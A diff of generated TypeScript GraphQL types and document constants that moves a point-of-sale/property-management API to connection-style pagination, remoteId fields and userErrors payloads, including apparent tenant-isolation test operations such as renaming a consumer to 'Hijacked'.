-export type ParityPmsTaxesQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', pms: { __typename?: 'Pms', taxes: { __typename?: 'PmsTaxRatePage', total: number, page: number, size: number, items: Array<{ __typename?: 'PmsTaxRate', id: string, label: string, rate: number, isCityTax: boolean, sourceRef: { __typename?: 'Ref', id?: string | null, model?: string | null } }> } } } };
+export type ParityPmsTaxesQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', pms: { __typename?: 'Pms', taxes?: { __typename?: 'PmsTaxRateConnection', totalCount: number, nodes: Array<{ __typename?: 'PmsTaxRate', remoteId: string, label: string, rate: number, isCityTax: boolean, sourceRef: { __typename?: 'Ref', remoteId?: string | null, model?: string | null } }> } | null } } | null };
 
 export type ParityPmsOrdersQueryVariables = Exact<{
   id: Scalars['ID']['input'];
-  page?: InputMaybe<Scalars['Int']['input']>;
-  size?: InputMaybe<Scalars['Int']['input']>;
+  first?: InputMaybe<Scalars['Int']['input']>;
+  after?: InputMaybe<Scalars['String']['input']>;
   state?: InputMaybe<PmsOrderState>;
   from?: InputMaybe<Scalars['Date']['input']>;
   to?: InputMaybe<Scalars['Date']['input']>;
@@ -1867,78 +2262,78 @@ export type ParityPmsOrdersQueryVariables = Exact<{
 }>;
 
 
-export type ParityPmsOrdersQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', pms: { __typename?: 'Pms', orders: { __typename?: 'PmsOrderPage', total: number, page: number, size: number, items: Array<{ __typename?: 'PmsOrder', id: string, creationDate: string, closingDate?: string | null, serviceDate?: string | null, total: number, taxAmount: number, orderNumber?: string | null, deviceId?: string | null, totalDiscount: number, totalRefund: number, totalTip: number, deliveryFee: number, mode?: PmsOrderMode | null, source?: PmsOrderSource | null, currency?: string | null, country?: string | null, loyalty?: number | null, customerId?: string | null, locationId?: string | null, guests?: number | null, serviceId?: string | null, sourceRef: { __typename?: 'Ref', id?: string | null, model?: string | null }, taxes: Array<{ __typename?: 'PmsOrderTax', taxId?: string | null, name?: string | null, taxRate: number, taxAmount: number, total: number, id?: string | null, rate?: number | null, amount: number }>, items: Array<{ __typename?: 'PmsOrderItem', id: string, quantity: number, unitPrice: number, total: number, taxAmount: number, type?: PmsOrderItemType | null, menuId?: string | null, taxRate?: number | null, taxId?: string | null, description?: string | null, productId?: string | null, accountingCategoryId?: string | null, sourceRef: { __typename?: 'Ref', id?: string | null, model?: string | null }, discounts: Array<{ __typename?: 'PmsDiscount', id?: string | null, name?: string | null, total: number, type?: PmsDiscountType | null, amount: number }> }>, reservation?: { __typename?: 'PmsReservation', id: string, startDate?: string | null, endDate?: string | null, creationDate?: string | null, resourceName?: string | null, resourceIdentifier?: string | null, sourceRef: { __typename?: 'Ref', id?: string | null, model?: string | null }, resourceId?: { __typename?: 'PmsResource', id: string, sourceRef: { __typename?: 'Ref', id?: string | null, model?: string | null } } | null } | null, bills: Array<{ __typename?: 'PmsBill', id: string, invoiceNumber?: string | null, creationDate?: string | null, closingDate?: string | null, sourceRef: { __typename?: 'Ref', id?: string | null, model?: string | null }, partners: Array<{ __typename?: 'PmsPartner', id: string, type: PmsPartnerType, firstName?: string | null, lastName?: string | null, companyName?: string | null, sourceRef: { __typename?: 'Ref', id?: string | null, model?: string | null }, address?: { __typename?: 'PmsAddress', addressType?: string | null, name?: string | null, street?: string | null, number?: string | null, box?: string | null, city?: string | null, postalCode?: string | null, country?: string | null } | null }> }> }> } } } };
+export type ParityPmsOrdersQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', pms: { __typename?: 'Pms', orders?: { __typename?: 'PmsOrderConnection', totalCount: number, nodes: Array<{ __typename?: 'PmsOrder', remoteId: string, creationDate: string, closingDate?: string | null, serviceDate?: string | null, total: number, taxAmount: number, orderNumber?: string | null, deviceId?: string | null, totalDiscount: number, totalRefund: number, totalTip: number, deliveryFee: number, mode?: PmsOrderMode | null, source?: PmsOrderSource | null, currency?: string | null, country?: string | null, loyalty?: number | null, customerId?: string | null, locationId?: string | null, guests?: number | null, serviceId?: string | null, sourceRef: { __typename?: 'Ref', remoteId?: string | null, model?: string | null }, taxes: Array<{ __typename?: 'PmsOrderTax', taxId?: string | null, name?: string | null, taxRate: number, taxAmount: number, total: number, rate?: number | null, amount: number }>, items: Array<{ __typename?: 'PmsOrderItem', remoteId: string, quantity: number, unitPrice: number, total: number, taxAmount: number, type?: PmsOrderItemType | null, menuId?: string | null, taxRate?: number | null, taxId?: string | null, description?: string | null, productId?: string | null, accountingCategoryId?: string | null, sourceRef: { __typename?: 'Ref', remoteId?: string | null, model?: string | null }, discounts: Array<{ __typename?: 'PmsDiscount', remoteId?: string | null, name?: string | null, total: number, type?: PmsDiscountType | null, amount: number }> }>, reservation?: { __typename?: 'PmsReservation', remoteId: string, startDate?: string | null, endDate?: string | null, creationDate?: string | null, resourceName?: string | null, resourceIdentifier?: string | null, sourceRef: { __typename?: 'Ref', remoteId?: string | null, model?: string | null }, resourceId?: { __typename?: 'PmsResource', remoteId: string, sourceRef: { __typename?: 'Ref', remoteId?: string | null, model?: string | null } } | null } | null, bills: Array<{ __typename?: 'PmsBill', remoteId: string, invoiceNumber?: string | null, creationDate?: string | null, closingDate?: string | null, sourceRef: { __typename?: 'Ref', remoteId?: string | null, model?: string | null }, partners: Array<{ __typename?: 'PmsPartner', remoteId: string, type: PmsPartnerType, firstName?: string | null, lastName?: string | null, companyName?: string | null, sourceRef: { __typename?: 'Ref', remoteId?: string | null, model?: string | null }, address?: { __typename?: 'PmsAddress', addressType?: string | null, name?: string | null, street?: string | null, number?: string | null, box?: string | null, city?: string | null, postalCode?: string | null, country?: string | null } | null }> }> }>, pageInfo: { __typename?: 'PageInfo', hasNextPage: boolean, endCursor?: string | null } } | null } } | null };
 
 export type ParityCreateProductMutationVariables = Exact<{
-  consumerId: Scalars['ID']['input'];
   input: CreateProductInput;
 }>;
 
 
-export type ParityCreateProductMutation = { __typename?: 'Mutation', createProduct: { __typename?: 'Product', id: string, name: string, unitPrice?: number | null, taxId?: string | null, code?: string | null, unit?: string | null, category?: string | null, currency?: string | null, description?: string | null, cost?: number | null, availableQuantity: number, sourceRef: { __typename?: 'Ref', id?: string | null, model?: string | null } } };
+export type ParityCreateProductMutation = { __typename?: 'Mutation', createProduct: { __typename?: 'CreateProductPayload', product?: { __typename?: 'Product', remoteId: string, name: string, unitPrice?: number | null, taxId?: string | null, code?: string | null, unit?: string | null, category?: string | null, currency?: string | null, description?: string | null, cost?: number | null, availableQuantity: number, sourceRef: { __typename?: 'Ref', remoteId?: string | null, model?: string | null } } | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 
-export const IsoListsDocument = {"__meta__":{"hash":"ea44f0d3d1ffa863104d27b7ed8f76ce50763c56b270a7d5ce3fd7e8ce68493d"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"IsoLists"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"search"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumers"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"search"},"value":{"kind":"Variable","name":{"kind":"Name","value":"search"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}},{"kind":"Field","name":{"kind":"Name","value":"webhooks"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"accountId"}}]}}]}}]} as unknown as DocumentNode<IsoListsQuery, IsoListsQueryVariables>;
+export const IsoListsDocument = {"__meta__":{"hash":"13b725ea8ea4fb23fbb806b5adc1eb777d33a7e884e65a1e8a87f56bf5644e2f"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"IsoLists"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"search"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumers"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"search"},"value":{"kind":"Variable","name":{"kind":"Name","value":"search"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}},{"kind":"Field","name":{"kind":"Name","value":"totalCount"}}]}},{"kind":"Field","name":{"kind":"Name","value":"webhooks"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"accountId"}}]}},{"kind":"Field","name":{"kind":"Name","value":"totalCount"}}]}}]}}]} as unknown as DocumentNode<IsoListsQuery, IsoListsQueryVariables>;
 export const IsoConsumerDocument = {"__meta__":{"hash":"0cb4923045a0a5b65786fd7c2511e61073d1cfee1bc1b249129954cb96d50bc6"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"IsoConsumer"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"email"}}]}}]}}]} as unknown as DocumentNode<IsoConsumerQuery, IsoConsumerQueryVariables>;
 export const IsoConnectionsDocument = {"__meta__":{"hash":"2e356ff70f23e46634014a4db6cc352ea9896bebe8b54c10d9497093237bb624"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"IsoConnections"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"connections"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}}]}}]}}]}}]} as unknown as DocumentNode<IsoConnectionsQuery, IsoConnectionsQueryVariables>;
-export const IsoUpdateConsumerDocument = {"__meta__":{"hash":"0a255d493f78bbb634e0741ad145377d2bb908de2a877c2639d5a46d3604ee77"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"IsoUpdateConsumer"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"updateConsumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}},{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"ObjectValue","fields":[{"kind":"ObjectField","name":{"kind":"Name","value":"name"},"value":{"kind":"StringValue","value":"Hijacked","block":false}}]}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]} as unknown as DocumentNode<IsoUpdateConsumerMutation, IsoUpdateConsumerMutationVariables>;
-export const IsoDeleteConsumerDocument = {"__meta__":{"hash":"768e2da29f97baaff679fd99640af24247eea98f668747a0c748a9757b2b019c"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"IsoDeleteConsumer"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"deleteConsumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]} as unknown as DocumentNode<IsoDeleteConsumerMutation, IsoDeleteConsumerMutationVariables>;
-export const IsoCreateConnectionDocument = {"__meta__":{"hash":"4e621981b3f7820d88e9b530f01ef4eaebbf363a04c98a0f8147a68d13360e33"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"IsoCreateConnection"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"consumerId"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createConnection"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"consumerId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"consumerId"}}},{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"ObjectValue","fields":[{"kind":"ObjectField","name":{"kind":"Name","value":"integrationId"},"value":{"kind":"IntValue","value":"1"}}]}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]} as unknown as DocumentNode<IsoCreateConnectionMutation, IsoCreateConnectionMutationVariables>;
-export const IsoUpdateConnectionDocument = {"__meta__":{"hash":"977ef186a562d13452a4bc7dc0b44c96b5ebdcc7e6cb1776fe765dca2d6d1dfe"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"IsoUpdateConnection"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"consumerId"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"updateConnection"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"consumerId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"consumerId"}}},{"kind":"Argument","name":{"kind":"Name","value":"connectionId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}}},{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"ObjectValue","fields":[{"kind":"ObjectField","name":{"kind":"Name","value":"status"},"value":{"kind":"EnumValue","value":"INACTIVE"}}]}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]} as unknown as DocumentNode<IsoUpdateConnectionMutation, IsoUpdateConnectionMutationVariables>;
-export const IsoDeleteConnectionDocument = {"__meta__":{"hash":"27d0310a8c5fcfb77a0787e2ca22d6152cff4cd330203b243d6bc4768c7159cf"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"IsoDeleteConnection"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"consumerId"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"deleteConnection"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"consumerId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"consumerId"}}},{"kind":"Argument","name":{"kind":"Name","value":"connectionId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"connectionId"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]} as unknown as DocumentNode<IsoDeleteConnectionMutation, IsoDeleteConnectionMutationVariables>;
-export const IsoInvoicingTaxesDocument = {"__meta__":{"hash":"bfc34bdb56426db77320963dd3a12ca940ae4319c79ce94d4c692fe62f548094"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"IsoInvoicingTaxes"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"taxes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"items"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<IsoInvoicingTaxesQuery, IsoInvoicingTaxesQueryVariables>;
-export const IsoOpportunitiesDocument = {"__meta__":{"hash":"00a49774089f373ffeed542afdca0528cf750ed167a2820dee2a15e04f5172a3"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"IsoOpportunities"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"opportunities"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"items"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<IsoOpportunitiesQuery, IsoOpportunitiesQueryVariables>;
-export const IsoContactDocument = {"__meta__":{"hash":"92edc1a4f92d15787419ed1c93be56f2fa84a92e8f9ac83daf9ab799900c4ac0"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"IsoContact"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"contact"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"StringValue","value":"contact-0001","block":false}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]}}]}}]} as unknown as DocumentNode<IsoContactQuery, IsoContactQueryVariables>;
-export const IsoCreateProductDocument = {"__meta__":{"hash":"f8147312670ee2cc932d1e7885e360cd528ce0b46536dbd7c4db5c2ed1c0203c"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"IsoCreateProduct"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createProduct"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"consumerId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}},{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"ObjectValue","fields":[{"kind":"ObjectField","name":{"kind":"Name","value":"name"},"value":{"kind":"StringValue","value":"Planted","block":false}}]}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]} as unknown as DocumentNode<IsoCreateProductMutation, IsoCreateProductMutationVariables>;
-export const IsoModifiersDocument = {"__meta__":{"hash":"8ac8093e6b0cd74ce928501e952ca77681ebb7a01cea620adbb94f83002aa46d"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"IsoModifiers"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pos"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"modifiers"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"items"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<IsoModifiersQuery, IsoModifiersQueryVariables>;
-export const IsoPmsTaxesDocument = {"__meta__":{"hash":"595caac4285f78d125dc3b3b1c10d7c0bdb39764acf4c948368ef04d3431035f"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"IsoPmsTaxes"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pms"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"taxes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"items"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<IsoPmsTaxesQuery, IsoPmsTaxesQueryVariables>;
-export const IsoPmsOrdersDocument = {"__meta__":{"hash":"c5dd82a02ad84294361be3f2a95672b620981da7c7a5b4ced7dad5efea8a9dab"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"IsoPmsOrders"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pms"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"orders"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"state"},"value":{"kind":"EnumValue","value":"CLOSED"}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"items"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<IsoPmsOrdersQuery, IsoPmsOrdersQueryVariables>;
+export const IsoUpdateConsumerDocument = {"__meta__":{"hash":"eda6fc0eab33be716a558a96a50f8791221d50a2b3bda657a9a8e25860e49565"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"IsoUpdateConsumer"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"updateConsumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"ObjectValue","fields":[{"kind":"ObjectField","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}},{"kind":"ObjectField","name":{"kind":"Name","value":"name"},"value":{"kind":"StringValue","value":"Hijacked","block":false}}]}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<IsoUpdateConsumerMutation, IsoUpdateConsumerMutationVariables>;
+export const IsoDeleteConsumerDocument = {"__meta__":{"hash":"bb16fbb4ca1ed88b227d92f0e785d19c3d4294fc92248bff7def4075d616c8c6"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"IsoDeleteConsumer"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"deleteConsumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"ObjectValue","fields":[{"kind":"ObjectField","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}]}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"deletedId"}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<IsoDeleteConsumerMutation, IsoDeleteConsumerMutationVariables>;
